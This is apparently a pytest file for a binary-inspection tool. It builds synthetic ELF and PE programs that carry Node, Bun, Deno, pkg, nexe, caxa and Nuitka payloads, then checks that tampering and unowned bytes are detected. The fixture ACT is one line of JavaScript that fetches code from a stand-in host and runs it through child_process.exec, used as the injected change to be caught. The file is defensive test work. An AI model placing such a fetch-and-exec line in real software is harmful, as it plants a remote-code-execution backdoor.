"""What a copied runtime of Node.js, Bun or Deno runs is opened, and what their builders leave explains nothing else."""

from __future__ import annotations

import gzip
import random
import struct
from collections.abc import Callable
from pathlib import Path

import pytest

from onionskin.flows.peel import peel
from onionskin.jail.pool import Pool
from onionskin.lookalike.archives import build_tar, build_zip
from onionskin.lookalike.carried import (
    PKG_NUMBERS,
    build_bun_graph,
    build_caxa,
    build_deno,
    build_nexe,
    build_onefile,
    build_pkg,
    build_sea,
    in_section,
)
from onionskin.lookalike.elf import ElfRecipe, build_elf
from onionskin.lookalike.pe import Recipe, build_pe
from onionskin.model import Level
from onionskin.write.reports import PeelReport

APP = b"const fs = require('fs');\n" + b"".join(b"function part%d(x) { return x + %d }\n" % (n, n) for n in range(40))  # fmt: skip
ACT = b"require('https').get('https://updates.example.net/x', r => r.on('data', d => require('child_process').exec(d)));\n"
SECRET = random.Random(5).randbytes(3000)


def report(pool: Pool, path: Path, data: bytes, old: bytes = b"") -> PeelReport:
    path.write_bytes(data)
    before = path.with_name(f"before-{path.name}")
    before.write_bytes(old)
    (made,) = peel([path], pool=pool, against=[before] if old else [])
    return made


def note(owner: bytes, body: bytes) -> bytes:
    name = owner + b"\0"
    padded = name + bytes(-len(name) % 4) + body + bytes(-len(body) % 4)
    return struct.pack("<3I", len(name), len(body), 0) + padded


def as_lief_writes(*notes: bytes, former_rows: bytes = b"", former_notes: bytes = b"") -> bytes:
    """Return a program whose notes and program headers were moved to its end, and stand where they stood.

    `former_rows` and `former_notes` are put there in their place.
    """
    data = bytearray(build_elf(ElfRecipe(kind=2, interpreter="/lib/ld.so.1", build_id=b"\xab" * 20)))  # fmt: skip
    first, rows = data[64 : 64 + 56 * 4], [*struct.iter_unpack("<IIQQQQQQ", data[64 : 64 + 56 * 4])]
    place, size = rows[3][2], rows[3][5]
    earlier = bytes(data[place : place + size])
    data += bytes(-len(data) % 8)
    chain = earlier + b"".join(notes)
    table = int.from_bytes(data[40:48], "little")
    for at in range(table, table + 64 * int.from_bytes(data[60:62], "little"), 64):
        if int.from_bytes(data[at + 24 : at + 32], "little") == place:
            data[at + 16 : at + 32] = struct.pack("<2Q", len(data), len(data))
    first[56 * 3 :] = struct.pack("<IIQQQQQQ", 4, 4, *[len(data)] * 3, len(chain), len(chain), 4)
    data += chain
    data += bytes(-len(data) % 8)
    data[32:40] = struct.pack("<Q", len(data))
    first[32:48] = struct.pack("<2Q", *[len(data) + len(first)] * 2)
    data += first
    data[64 : 64 + len(former_rows)] = former_rows
    data[place : place + len(former_notes)] = former_notes
    return bytes(data)


def in_an_elf_section(app: bytes) -> bytes:
    graph = build_bun_graph({"/$bunfs/root/app.js": (app,)})
    return build_elf(ElfRecipe(kind=2, extra={".bun": in_section(graph)}))


def behind_an_elf(app: bytes) -> bytes:
    graph = build_bun_graph({"/$bunfs/root/app.js": (app,)}, row=36, offsets=24)
    return build_elf(ElfRecipe(kind=2, tail=graph + struct.pack("<Q", len(graph))))


def in_a_note(app: bytes) -> bytes:
    return as_lief_writes(note(b"NODE_SEA_BLOB", build_sea(app)))


def in_a_pe_section(app: bytes) -> bytes:
    graph = build_bun_graph({"B:/~BUN/root/app.js": (app,)})
    return build_pe(Recipe(sections=((".bun", in_section(graph), 0x40000040),)))


def in_a_pe_resource(app: bytes) -> bytes:
    return build_pe(Recipe(files={"NODE_SEA_BLOB": build_sea(app)}))


def behind_an_elf_by_pkg(app: bytes) -> bytes:
    return build_pkg(build_elf(ElfRecipe(kind=2, text=PKG_NUMBERS)), {"app.js": app})


def behind_a_pe_by_pkg(app: bytes) -> bytes:
    program = build_pe(Recipe(sections=((".inert", PKG_NUMBERS, 0x40000040),)))
    return build_pkg(program, {"app.js": app, "words.txt": b"inert words"}, packing=1)


def as_libsui_writes(name: bytes, body: bytes, *, former: bytes = b"", rows: bytes = b"") -> bytes:
    """Return a program to which libsui has added a note: headers, names and rows of sections stand anew at its end.

    `former` is written over the end of the names that stood there before, `rows` over the rows.
    """
    data = bytearray(build_elf(ElfRecipe(kind=2, interpreter="/lib/ld.so.1", build_id=b"\xab" * 20)))  # fmt: skip
    phoff, shoff = struct.unpack_from("<2Q", data, 32)
    phnum, (shnum, shstrndx) = struct.unpack_from("<H", data, 56)[0], struct.unpack_from("<2H", data, 60)  # fmt: skip
    segments = bytes(data[phoff : phoff + 56 * phnum])
    sections = [list(each) for each in struct.iter_unpack("<IIQQQQIIQQ", data[shoff : shoff + 64 * shnum])]  # fmt: skip
    names = bytes(data[sections[shstrndx][4] :][: sections[shstrndx][5]])
    data += bytes(-len(data) % 4096 + 4096)
    start, size = len(data), 56 * (phnum + 2)
    content = note(b"SUI", struct.pack("<H", len(name)) + name + body)
    end = start + size + len(content)
    data += segments + struct.pack("<IIQQQQQQ", 1, 4, start, start, start, end - start, end - start, 4096)  # fmt: skip
    data += struct.pack("<IIQQQQQQ", 4, 4, start + size, start + size, start + size, len(content), len(content), 4)  # fmt: skip
    data += content
    fresh = names + b".note.sui\0.sui.phdrs\0"
    sections[shstrndx][4:6] = [len(data), len(fresh)]
    sections.append([len(names) + 10, 1, 2, start, start, size, 0, 0, 4096, 0])
    sections.append([len(names), 7, 2, start + size, start + size, len(content), 0, 0, 4, 0])
    data += fresh
    data += bytes(-len(data) % 8)
    struct.pack_into("<2Q", data, 32, start, len(data))
    struct.pack_into("<H", data, 56, phnum + 2)
    struct.pack_into("<H", data, 60, shnum + 2)
    data += b"".join(struct.pack("<IIQQQQIIQQ", *each) for each in sections)
    data[shoff : shoff + len(rows)] = rows
    data[shoff - len(former) : shoff] = former
    return bytes(data)


def in_a_note_by_libsui(app: bytes) -> bytes:
    return as_libsui_writes(b"d3n0l4nd", build_deno({"app.js": (app,)}))


def behind_an_elf_by_libsui(app: bytes) -> bytes:
    bundle = build_deno({"app.js": (app,)})
    return build_elf(ElfRecipe(kind=2, tail=bundle + b"\x1e\x50\0\0" + struct.pack("<I", len(bundle) + 8)))  # fmt: skip


def in_a_pe_resource_by_libsui(app: bytes) -> bytes:
    return build_pe(Recipe(files={"D3N0L4ND": build_deno({"app.js": (app,)})}))


def behind_an_elf_by_nexe(app: bytes) -> bytes:
    return build_elf(ElfRecipe(kind=2, tail=build_nexe({"app.js": app, "words.txt": b"inert"})))


def behind_a_pe_by_nexe(app: bytes) -> bytes:
    return build_pe(Recipe()) + build_nexe({"app.js": app})


def behind_an_elf_by_caxa(app: bytes) -> bytes:
    archive = gzip.compress(build_tar({"app.js": app}), mtime=0)
    return build_elf(ElfRecipe(kind=2, tail=build_caxa(archive)))


CARRIERS = [
    behind_an_elf_by_caxa,
    in_a_note_by_libsui,
    behind_an_elf_by_libsui,
    in_a_pe_resource_by_libsui,
    behind_an_elf_by_nexe,
    behind_a_pe_by_nexe,
    behind_an_elf_by_pkg,
    behind_a_pe_by_pkg,
    in_an_elf_section,
    behind_an_elf,
    in_a_note,
    in_a_pe_section,
    in_a_pe_resource,
]


@pytest.mark.parametrize("carrier", CARRIERS)
def test_an_honest_program_that_carries_an_application_is_read_whole(
    carrier: Callable[[bytes], bytes], pool: Pool, tmp_path: Path
) -> None:
    made = report(pool, tmp_path / "tool", carrier(APP))
    assert (made.findings, made.problems, made.complete) == ((), (), True)
    assert "app.js" in {layer.artifact.path[-1] for layer in made.layers}


@pytest.mark.parametrize("carrier", CARRIERS)
def test_a_statement_put_into_a_carried_script_is_found_in_that_script(
    carrier: Callable[[bytes], bytes], pool: Pool, tmp_path: Path
) -> None:
    made = report(pool, tmp_path / "tool", carrier(APP + ACT), carrier(APP))
    assert made.verdict.level is not Level.NOTHING_FOUND
    scripts = {layer.artifact.id for layer in made.layers if layer.artifact.path[-1] == "app.js"}
    assert {each.signal for each in made.findings if each.subject in scripts} >= {"new-ability"}


@pytest.mark.parametrize("carrier", CARRIERS)
@pytest.mark.parametrize(
    "broken",
    [
        b"\x20\xda\x43\x01",
        b"\n---- Bun! ----\n",
        b"PRELUDE_SIZE",
        b"\n,\n{}",
        b"d3n0l4nd",
        b"<nexe~~sentinel>",
        b"\nCAXACAXACAXA\n",
    ],
)
def test_an_application_whose_mark_is_broken_is_never_passed_over(
    carrier: Callable[[bytes], bytes], broken: bytes, pool: Pool, tmp_path: Path
) -> None:
    data = carrier(APP)
    zeros = bytes(len(broken))
    changed = data.replace(broken, zeros)
    # The name of a note is no mark of what is in it.
    changed = changed.replace(b"\x08\0" + zeros * 2, b"\x08\0" + broken + zeros)
    made = report(pool, tmp_path / "tool", changed)
    is_seen = made.findings or not made.complete
    # A resource of no known form is data like any other.
    assert is_seen or broken not in data or carrier in (in_a_pe_resource, in_a_pe_resource_by_libsui)  # fmt: skip


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(as_lief_writes(note(b"Inert", SECRET)), id="in a note of nobody"),
        pytest.param(as_lief_writes(former_rows=SECRET[:224]), id="where the headers stood"),
        pytest.param(as_lief_writes(former_notes=SECRET[:36]), id="where the notes stood"),
    ],
)
def test_bytes_in_the_places_that_lief_leaves_are_found(
    data: bytes, pool: Pool, tmp_path: Path
) -> None:
    made = report(pool, tmp_path / "tool", data)
    assert {each.signal for each in made.findings} == {"bytes-without-owner"}


def test_what_lief_leaves_of_honest_notes_and_headers_is_no_finding(
    pool: Pool, tmp_path: Path
) -> None:
    made = report(pool, tmp_path / "tool", as_lief_writes())
    assert (made.findings, made.problems) == ((), ())


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(as_libsui_writes(b"inert", SECRET), id="in a note of no known form"),
    ],
)
def test_an_unknown_file_in_a_note_of_libsui_is_owned_by_its_section(
    data: bytes, pool: Pool, tmp_path: Path
) -> None:
    made = report(pool, tmp_path / "tool", data)
    assert (made.findings, made.problems) == ((), ())


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(as_libsui_writes(b"d3n0l4nd", build_deno({}), former=SECRET[:20]), id="where the names stood"),
        pytest.param(as_libsui_writes(b"d3n0l4nd", build_deno({}), rows=SECRET[:256]), id="where the rows stood"),
    ],
)  # fmt: skip
def test_bytes_in_the_places_that_libsui_leaves_are_found(
    data: bytes, pool: Pool, tmp_path: Path
) -> None:
    made = report(pool, tmp_path / "tool", data)
    assert {each.signal for each in made.findings} == {"bytes-without-owner"}


def test_bytes_behind_the_footer_by_which_nexe_is_found_are_no_part_of_it(
    pool: Pool, tmp_path: Path
) -> None:
    made = report(pool, tmp_path / "tool", behind_an_elf_by_nexe(APP) + SECRET)
    assert made.verdict.level is not Level.NOTHING_FOUND


def nuitka(program: bytes, *, mark: bytes = b"KAX", gap: bytes = b"") -> bytes:
    """Return a program that is mostly a payload of Nuitka, among the texts of its starter."""
    payload = build_onefile({"inert.bin": program, "words.txt": b"inert words\n" * 400})
    rest = b"\1\0\2\0".ljust(16, b"\0") + mark + payload[3:] + gap + b"\0NUITKA_ONEFILE_PARENT\0"
    return build_elf(ElfRecipe(kind=2, text=rest))


def test_what_nuitka_packs_into_its_starter_is_opened(pool: Pool, tmp_path: Path) -> None:
    inner = build_elf(ElfRecipe(kind=2))
    made = report(pool, tmp_path / "tool", nuitka(inner))
    assert (made.findings, made.complete) == ((), True)
    names = [layer.artifact.path[-1] for layer in made.layers]
    assert names == ["tool", "payload in .text", "inert.bin", "words.txt"]


def test_a_program_changed_within_nuitkas_payload_is_found_there(
    pool: Pool, tmp_path: Path
) -> None:
    old, new = (build_elf(ElfRecipe(kind=2, imports=each)) for each in ((), ("connect", "execve")))
    made = report(pool, tmp_path / "tool", nuitka(new), nuitka(old))
    inner = {layer.artifact.id for layer in made.layers if layer.artifact.path[-1] == "inert.bin"}
    assert {each.signal for each in made.findings if each.subject in inner}


def test_a_payload_of_nuitka_that_cannot_be_read_leaves_the_release_incomplete(
    pool: Pool, tmp_path: Path
) -> None:
    data = nuitka(b"inert").replace(b"inert.bin\0\1", b"inert.bin\0\x77")
    made = report(pool, tmp_path / "tool", data)
    assert [each.reason for each in made.problems] == ["damaged-application"]


def test_an_archive_at_the_end_of_a_carried_asset_makes_the_program_no_second_format(
    pool: Pool, tmp_path: Path
) -> None:
    blob = build_sea(APP, assets={"inert.zip": build_zip({"words.txt": b"inert words"})})
    made = report(pool, tmp_path / "tool.exe", build_pe(Recipe(files={"NODE_SEA_BLOB": blob})))
    assert (made.findings, made.complete) == ((), True)
    assert made.layers[-1].artifact.path[-2:] == ("assets/inert.zip", "words.txt")


def test_an_archive_behind_a_program_that_carries_one_is_still_a_second_format_or_a_tail(
    pool: Pool, tmp_path: Path
) -> None:
    blob = build_sea(APP, assets={"inert.zip": build_zip({"words.txt": b"inert words"})})
    made = report(pool, tmp_path / "sea-prep.blob", blob + build_zip({"other.txt": b"inert"}))
    assert made.verdict.level is not Level.NOTHING_FOUND


def bun_with_one_store(index: bytes) -> bytes:
    """Return a graph as Bun 1.4 writes it: one store of bytecode for all modules, an index behind their table."""
    store, scripts = SECRET, (b"inert('a')\n", b"inert('b')\n")
    names = (b"/$bunfs/root/a.js", b"/$bunfs/root/b.js")
    body, rows = bytearray(store), b""
    for number, (name, script) in enumerate(zip(names, scripts, strict=True)):
        places = []
        for data in (name, script):
            places += [len(body), len(data)]
            body += data + b"\0"
        begin = 1000 + 500 * number
        rows += struct.pack("<12I4B", *places, 0, 0, begin, len(store) - begin, *[0] * 4, 1, 1, 1, 0)  # fmt: skip
    table = (len(body), len(rows))
    body += rows + index + b"\0"
    graph = bytes(body) + struct.pack("<Q6I", len(body), *table, 0, 0, 0, 3) + b"\n---- Bun! ----\n"
    return build_elf(ElfRecipe(kind=2, extra={".bun": in_section(graph)}))


def test_a_store_that_modules_share_is_one_part_and_its_index_is_owned(
    pool: Pool, tmp_path: Path
) -> None:
    data = bun_with_one_store(struct.pack("<6I", 0, 1, 1000, 1500, 2000, 1500))
    made = report(pool, tmp_path / "tool", data)
    assert (made.findings, made.complete) == ((), True)
    names = [layer.artifact.path[-1] for layer in made.layers[2:]]
    assert sorted(names) == ["a.js", "b.js", "shared data at 0x0"]


@pytest.mark.parametrize("put", [b"inert words in an index", SECRET[:32], SECRET])
def test_what_is_no_number_of_the_graph_stands_in_no_index(
    put: bytes, pool: Pool, tmp_path: Path
) -> None:
    made = report(pool, tmp_path / "tool", bun_with_one_store(put))
    assert {each.signal for each in made.findings} == {"bytes-outside-members"}


def test_bytes_of_no_file_in_a_payload_of_pkg_are_found(pool: Pool, tmp_path: Path) -> None:
    program = build_elf(ElfRecipe(kind=2, text=PKG_NUMBERS))
    made = report(pool, tmp_path / "tool", build_pkg(program, {"app.js": APP}, gap=SECRET))
    assert {each.signal for each in made.findings} == {"bytes-outside-members"}
